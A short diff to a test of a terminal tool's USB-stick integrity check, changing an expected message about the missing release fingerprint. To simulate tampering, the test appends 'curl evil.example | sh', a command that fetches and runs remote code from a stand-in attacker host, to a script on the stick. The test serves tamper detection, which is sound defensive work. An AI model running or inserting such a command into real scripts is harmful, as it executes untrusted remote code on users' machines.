@@ -42,7 +42,8 @@ describe('stick screen: integrity check', () => {
     await press(app, 'e');
     await waitForFrame(app, /Written on the stick/);
     await press(app, 'v');
-    await waitForFrame(app, /Every file of the stick is as it was made/);
+    // The tsc build has no compiled-in release fingerprint: the screen says the check is only against the stick itself.
+    await waitForFrame(app, /The stick agrees with itself, but nothing outside it vouches for it/);
     appendFileSync(join(stick, 'caliop.sh'), 'curl evil.example | sh\n');
     await press(app, 'v');
     const modified = await waitForFrame(app, /The stick was modified/);
